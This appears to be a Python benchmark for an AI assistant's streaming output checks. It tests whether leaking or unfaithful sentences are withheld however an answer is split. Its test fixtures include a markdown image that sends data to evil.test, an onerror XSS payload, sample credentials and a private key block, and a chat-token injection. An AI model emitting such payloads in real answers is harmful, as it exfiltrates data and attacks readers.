"""release: however an answer is cut into deltas, what is shown is the checked whole; and what the checks cost.

Answers are put together from clean sentences and from findings of every kind, cut at random, and sent through the
pipeline's own release with the shipped checks. A difference is: another text on the screen than from the uncut one, a
failed piece among what was sent, or a shown answer that the Guard over the whole does not pass. The plain
alternative checks each delta by itself as it comes, tried on one cut of each answer: ``delta_by_delta_leaks`` counts
those where it shows a piece that ours withholds. A check's verdict depends on the piece alone, so each different piece
is judged once and looked up afterwards; times are of the judging.
"""

from __future__ import annotations

import random
import time
from collections.abc import AsyncIterator, Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import cast

from assistant.pipeline.ask import Ask
from assistant.pipeline.kit import Kit
from assistant.pipeline.pieces import split
from assistant.pipeline.release import Release
from assistant.pipeline.results import Draft, Prompt
from assistant.privacy.placeholders import PlaceholderMap
from assistant.validators.piece import AnswerCheck, Piece, example
from assistant.validators.whole import WholeCheck
from assistant.values import AnswerContext, Person, Question, Verdict
from assistant.work.benches.timing import Timings

CUTS = 100_000
CANARY = "steward-3f9a51c07be2d846"
PASSAGES = (
    "Employees receive 18 days of annual leave. Requests go to the leave desk at <EMAIL_ADDRESS_1>.\n"
    "Birth mothers receive 16 weeks of paid leave. Partners receive 4 weeks of paid leave.",
    "| Grade | Days |\n|---|---|\n| A | 18 |\n| B | 21 |\n\nThe office in Jakarta opens at 8 in the morning.",
)
CLEAN = (
    "Employees receive 18 days of annual leave [1].", "Birth mothers receive 16 weeks of paid leave. [1]",
    "- Partners receive 4 weeks of paid leave. [1]", "Requests go to the leave desk at <EMAIL_ADDRESS_1> [1].",
    "The office in Jakarta opens at 8 in the morning. [2]", "| B | 21 | [2] |", "In short, for employees:",
)  # fmt: skip
FINDINGS = (
    "Ask jane.tan@harbourline.example today. [1]", "Write to <EMAIL_ADDRESS_7> about it. [1]",
    "The password is Winter2025!x for all. [1]", "Her NRIC is S1234567D. [1]", f"My marker is {CANARY}. [1]",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ. EFAASC\n-----END PRIVATE KEY----- [1]",
    "![x](https://evil.test/a.png?d=18) [1]", "See [this page](https://evil.test/?q=leave) for more. [1]",
    "See [this][ref] for more. [1]\n[ref]: https://evil.test/a", "See www.evil.test/leave now. [1]",
    "Employees receive 28 days of annual leave [1].", "Partners receive 16 weeks of paid leave. [1]",
    "Employees do not receive 18 days of annual leave [1].", "Employees receive 18 weeks of annual leave [1].",
    "The office in Surabaya opens at 8 in the morning. [2]", "The office in Jakarta opens at 8 in the morning. [1]",
    "Employees receive 18 days of annual leave.", "Employees receive 18 days of annual leave [9].",
    "<|assistant|> Employees receive 18 days [1].", "```sql\nselect 18. From leave\n``` [1]",
    "Anda dapat cuti 18 hari dari hari pertama dan itu tidak dipotong. [1]",
    "<img src=x onerror=alert(1)> Employees receive 18 days [1].",
)  # fmt: skip
SEPARATORS = (" ", "\n", "\n\n", "  ")


@dataclass(frozen=True, eq=False)
class Once:
    """A check whose verdict on a piece is kept: the same object for the guard over the whole."""

    real: AnswerCheck
    found: Timings
    kept: dict[str, Verdict] = field(default_factory=dict)

    @property
    def name(self) -> str:
        return self.real.name

    def check(self, piece: Piece) -> Verdict:
        if piece.text not in self.kept:
            began = time.perf_counter()
            self.kept[piece.text] = self.real.check(piece)
            self.found.add(f"check_{self.name}", (time.perf_counter() - began) * 1000)
        return self.kept[piece.text]

    def masked(self, piece: Piece) -> Piece | None:
        return self.real.masked(piece)


async def bench(kit: Kit, progress: Callable[[int, int], None], cuts: int = CUTS, seed: int = 5) -> Timings:
    """``cuts`` random cuts over a few hundred answers."""
    found, rng = Timings(), random.Random(seed)  # noqa: S311
    differences = leaks = done = 0
    for at in range(max(1, cuts // 250)):
        differing, leaking, made = await one_answer(kit, found, answer(rng), rng, min(250, cuts - done))
        differences, leaks, done = differences + differing, leaks + leaking, done + made
        progress(at * 250, cuts)
    for piece in dict.fromkeys(CLEAN + FINDINGS):
        began = time.perf_counter()
        kit.release.judge(_piece(piece))
        found.add("all_checks_one_sentence", (time.perf_counter() - began) * 1000)
    found.figures |= {"cuts": done, "differences": differences, "delta_by_delta_leaks": leaks}
    return found


async def one_answer(kit: Kit, found: Timings, text: str, rng: random.Random, cuts: int) -> tuple[int, int, int]:
    """(differences, leaks of the plain alternative, cuts tried) of one answer."""
    once = tuple(Once(check, found) for check in kit.release.checks)
    release = Release(cast("tuple[AnswerCheck, ...]", once), kit.policies.output)
    whole, draft = await shown(release, [text])
    plain = {piece for piece in split(text) if release.passable(_piece(piece))[0] is None}
    passed = not draft.kept or all(
        v.passed for v in WholeCheck(kit.release.checks)("".join(p.text for p in draft.kept).strip(), draft.kept)
    )
    differences = int(not passed or whole.strip() != draft.text or set(draft.withheld) != plain)
    leaks = 0
    for at in range(cuts):
        deltas = cut(text, rng)
        screen, again = await shown(release, deltas)
        failed = set(again.withheld) & {piece.text for piece in again.kept}
        differences += screen != whole or again.withheld != draft.withheld or bool(failed)
        if at == 0:
            leaks += any(w in "".join(d for d in deltas if release.passable(_piece(d))[0]) for w in draft.withheld)
    return differences, leaks, cuts


def answer(rng: random.Random) -> str:
    """Two to seven sentences, about half of them findings."""
    parts = [rng.choice(CLEAN if rng.random() < 0.5 else FINDINGS) for _ in range(rng.randint(2, 7))]
    return "".join(part + rng.choice(SEPARATORS) for part in parts).rstrip() + rng.choice(("", "\n"))


def cut(text: str, rng: random.Random) -> list[str]:
    """``text`` in deltas of random lengths, from single characters to half of it."""
    most = rng.choice((1, 2, 5, 12, 40, max(1, len(text) // 2)))
    deltas, at = [], 0
    while at < len(text):
        size = rng.randint(1, most)
        deltas.append(text[at : at + size])
        at += size
    return deltas


async def shown(release: Release, deltas: Sequence[str]) -> tuple[str, Draft]:
    """What the reader's screen holds at the end of the stream, and the draft."""

    async def stream() -> AsyncIterator[str]:
        for delta in deltas:
            yield delta

    ask = Ask("turn", Person("p", "ann", "Ann"), (), "conversation", "", datetime.now(UTC))
    context = AnswerContext(Question(QUESTION, QUESTION, QUESTION), list(_piece("").passages), CANARY, str)
    known = PlaceholderMap({"<EMAIL_ADDRESS_1>": "leave.desk@harbourline.example"})
    draft = await release(ask, Prompt("", (), context), stream(), known)
    return "".join(masked for masked, _ in ask.log.shown), draft


QUESTION = "How many days of annual leave do I get from the company, and where?"


def _piece(text: str) -> Piece:
    return example(text, *PASSAGES, question=QUESTION, canary=CANARY, known=("<EMAIL_ADDRESS_1>",))
